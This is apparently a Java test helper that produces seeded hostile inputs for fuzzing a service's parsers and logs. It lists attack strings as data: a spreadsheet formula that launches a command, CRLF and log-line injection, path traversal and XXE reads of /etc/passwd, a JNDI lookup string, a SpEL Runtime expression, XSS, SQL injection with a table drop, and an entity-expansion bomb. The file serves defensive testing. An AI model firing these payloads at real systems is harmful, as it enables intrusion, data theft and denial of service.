package org.lianbao.journeys;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.BigIntegerNode;
import com.fasterxml.jackson.databind.node.BooleanNode;
import com.fasterxml.jackson.databind.node.DecimalNode;
import com.fasterxml.jackson.databind.node.NullNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.lianbao.shared.Json;

/** What people with bad intentions, and programs with bad luck, send; the same from one seed. */
final class Hostile {

  /** Personal data in everything hostile: no log line may repeat it. */
  static final String PERSON = "贾宝玉机密";

  static final String MOBILE = "13712345678";

  /** The beginning of a line that nobody but the log itself may begin. */
  static final String FORGED_LINE = "2026-11-22T08:00:00 ERROR forged";

  /** Texts where a name, a number, a code or a time should be. */
  static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "\u0000",
          PERSON + "\u0000" + MOBILE,
          "\ud800",
          PERSON + "\udc00x",
          "\uFEFF" + PERSON,
          "\uFFFF\uFFFE",
          "\u202e" + PERSON,
          "𠮷䶮㛃" + PERSON,
          "a\u0301".repeat(2_000),
          "=HYPERLINK(\"http://x/?\"&A1)" + PERSON,
          "+cmd|' /C calc'!A0",
          "@SUM(1+1)",
          "-2+3",
          "x\r\nSet-Cookie: a=b\r\n\r\n" + PERSON,
          "x\n" + FORGED_LINE,
          "x\r" + FORGED_LINE,
          "../../../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "/etc/passwd\u0000.pdf",
          "${jndi:ldap://127.0.0.1:1/" + PERSON + "}",
          "${sys.user.home}${exchangeProperty.verdict}",
          "#{T(java.lang.Runtime).getRuntime()}",
          "{{lianbao.partners.power.secret}}",
          "<script>alert('" + PERSON + "')</script>",
          "]]><!--\"'&<>",
          "&#0;&#xD800;&x;",
          "' or 1=1 --; drop table inbox_event",
          "%s%n%x%00",
          "NaN",
          "Infinity",
          "1e999999999",
          "-0",
          "9".repeat(400),
          "1." + "0".repeat(5_000) + "1",
          "2026-02-30T25:61:61+99:99",
          "0000-00-00",
          "+999999999-12-31T23:59:59Z",
          "-999999999-01-01T00:00:00Z",
          "10000-01-01T00:00:00+08:00",
          "99991231235959",
          "20261350256199",
          "9223372036854775808",
          PERSON + "长".repeat(5_000),
          "y".repeat(120_000));

  /** The same, as far as one header can hold them. */
  static final List<String> HEADERS =
      TEXTS.stream()
          .map(text -> text.substring(0, Math.min(2_000, text.length())))
          .map(text -> text.replaceAll("[\r\n\u0000]", ""))
          .toList();

  /** Bodies that are no JSON, or JSON nobody should send. */
  static final List<byte[]> JSON_BODIES =
      Stream.of(
              "",
              "\u0000",
              "null",
              "[]",
              "{",
              "\"",
              "{}{}",
              "{\"a\":1,\"a\":2}",
              "{\"requestId\":\"1\",\"requestId\":\"2\"}",
              "{\"a\":NaN}",
              "{\"a\":-Infinity}",
              "{\"a\":1e999999999}",
              "{\"a\":1E-999999999}",
              "{\"a\":" + "9".repeat(20_000) + "}",
              "{\"a\":\"\\u0000\"}",
              "{\"a\":\"\\ud800\"}",
              "{\"\\udc00\":\"" + PERSON + "\"}",
              "{\"a\":\"\\x\"}",
              "{\"a\":\"" + PERSON + "\n\"}",
              "{/**/\"a\":1}",
              "{'a':1}",
              "{\"a\":1,}",
              "{\"" + "k".repeat(60_000) + "\":1}",
              "[".repeat(20_000),
              "{\"a\":".repeat(20_000),
              "[".repeat(60) + "]".repeat(60),
              "{" + "\"a\":{".repeat(63) + "}".repeat(64),
              "\uFEFF{\"a\":\"" + PERSON + "\"}",
              "true",
              "1e400",
              "<xml/>")
          .map(text -> text.getBytes(StandardCharsets.UTF_8))
          .toList();

  private static final String LAUGHS =
      "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
          + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]>";

  /** Whole documents that are no XML, or XML nobody should send. */
  static final List<String> XML_BODIES =
      List.of(
          "",
          "<",
          "<a",
          "<a></b>",
          LAUGHS + "<l>&d;</l>",
          "<!DOCTYPE l [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><l>&x;</l>",
          "<!DOCTYPE l [<!ENTITY x SYSTEM \"http://127.0.0.1:1/x\">]><l>&x;</l>",
          "<!DOCTYPE l PUBLIC \"-//x\" \"http://127.0.0.1:1/x.dtd\"><l/>",
          "<!DOCTYPE l [<!ENTITY % p SYSTEM \"http://127.0.0.1:1/p\">%p;]><l/>",
          "<a>&x;</a>",
          "<a>&#0;</a>",
          "<a>&#xD800;</a>",
          "<a>\u0000</a>",
          "<a>".repeat(10_000),
          "<a>".repeat(60) + PERSON + "</a>".repeat(60),
          "<a>" + "<b/>".repeat(120_000) + "</a>",
          "<" + "n".repeat(100_000) + "/>",
          "<a " + attributes(3_000) + "/>",
          "<a x=\"1\" x=\"2\"/>",
          "<a xmlns:p=\"u\"><q:b/></a>",
          "<?xml version=\"9.9\"?><a/>",
          "<?xml version=\"1.0\" encoding=\"UTF-16\"?><a/>",
          "<?xml version=\"1.0\" encoding=\"" + PERSON + "\"?><a/>",
          "<?xml-stylesheet href=\"http://127.0.0.1:1/x\"?><a/>",
          "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\""
              + " parse=\"text\"/></a>",
          "<a><![CDATA[" + PERSON + "]]></a><a/>",
          "<!--" + "-".repeat(50_000));

  private final Random random;

  Hostile(long seed) {
    this.random = new Random(seed);
  }

  private static String attributes(int count) {
    var attributes = new StringBuilder();
    for (var i = 0; i < count; i++) {
      attributes.append('a').append(i).append("=\"").append(PERSON).append("\" ");
    }
    return attributes.toString();
  }

  String text() {
    return TEXTS.get(random.nextInt(TEXTS.size()));
  }

  int number(int bound) {
    return random.nextInt(bound);
  }

  /** What a table, or the name of a file, can hold of a text. */
  static String storable(String text) {
    return new String(
        text.replace("\u0000", "").getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8);
  }

  /** A word in the name of a file, as odd as the disk allows; no dots, which end the name. */
  String fileWord() {
    var word = storable(text()).replaceAll("[./\\\\\r\n]", "");
    while (word.getBytes(StandardCharsets.UTF_8).length > 120) {
      word =
          word.substring(0, word.offsetByCodePoints(0, word.codePointCount(0, word.length()) / 2));
    }
    return word;
  }

  /** A document with one to three of its values replaced, removed or doubled. */
  JsonNode twist(JsonNode valid) {
    var copy = valid.deepCopy();
    for (var i = 0; i <= random.nextInt(3); i++) {
      twistOne(copy);
    }
    return copy;
  }

  private void twistOne(JsonNode node) {
    if (node instanceof ObjectNode object && !object.isEmpty()) {
      var names = object.properties().stream().map(java.util.Map.Entry::getKey).toList();
      var name = names.get(random.nextInt(names.size()));
      var child = object.get(name);
      if (child.isContainerNode() && !child.isEmpty() && random.nextInt(4) != 0) {
        twistOne(child);
      } else if (random.nextInt(8) == 0) {
        object.remove(name);
      } else {
        object.set(name, value(child));
      }
    } else if (node instanceof ArrayNode array && !array.isEmpty()) {
      var index = random.nextInt(array.size());
      if (array.get(index).isContainerNode() && random.nextInt(3) != 0) {
        twistOne(array.get(index));
      } else if (random.nextInt(4) == 0) {
        array.add(array.get(index).deepCopy());
      } else {
        array.set(index, value(array.get(index)));
      }
    }
  }

  private JsonNode value(JsonNode instead) {
    return switch (random.nextInt(12)) {
      case 0 -> NullNode.getInstance();
      case 1 -> BooleanNode.valueOf(random.nextBoolean());
      case 2 -> DecimalNode.valueOf(new BigDecimal("1e99"));
      case 3 -> DecimalNode.valueOf(new BigDecimal("-0.0000000000000000000001"));
      case 4 -> BigIntegerNode.valueOf(new BigInteger("9".repeat(90)));
      case 5 -> Json.mapper().createArrayNode().add(text()).add(instead.deepCopy());
      case 6 -> Json.mapper().createObjectNode().put("x", text());
      default -> TextNode.valueOf(text());
    };
  }

  /** Bytes with something cut off, flipped, doubled, put in, or in another character set. */
  byte[] spoil(byte[] valid) {
    var at = valid.length == 0 ? 0 : random.nextInt(valid.length);
    var to = Math.min(valid.length, at + 1 + random.nextInt(40));
    return switch (random.nextInt(9)) {
      case 0 -> Arrays.copyOf(valid, at);
      case 1 -> flipped(valid);
      case 2 -> joined(Arrays.copyOf(valid, to), Arrays.copyOfRange(valid, at, valid.length));
      case 3 -> joined(Arrays.copyOf(valid, at), Arrays.copyOfRange(valid, to, valid.length));
      case 4 ->
          joined(
              Arrays.copyOf(valid, at),
              text().getBytes(StandardCharsets.UTF_8),
              Arrays.copyOfRange(valid, at, valid.length));
      case 5 -> utf8(valid).getBytes(Charset.forName("GBK"));
      case 6 -> utf8(valid).getBytes(StandardCharsets.UTF_16);
      case 7 -> gzip(valid);
      default -> joined(valid, valid);
    };
  }

  private byte[] flipped(byte[] valid) {
    var bytes = valid.clone();
    for (var i = 0; i < 1 + random.nextInt(5) && bytes.length > 0; i++) {
      bytes[random.nextInt(bytes.length)] ^= (byte) (1 << random.nextInt(8));
    }
    return bytes;
  }

  private static String utf8(byte[] bytes) {
    return new String(bytes, StandardCharsets.UTF_8);
  }

  static byte[] gzip(byte[] bytes) {
    var out = new ByteArrayOutputStream();
    try (var gzip = new GZIPOutputStream(out)) {
      gzip.write(bytes);
    } catch (java.io.IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  private static byte[] joined(byte[]... parts) {
    var out = new ByteArrayOutputStream();
    for (var part : parts) {
      out.writeBytes(part);
    }
    return out.toByteArray();
  }
}
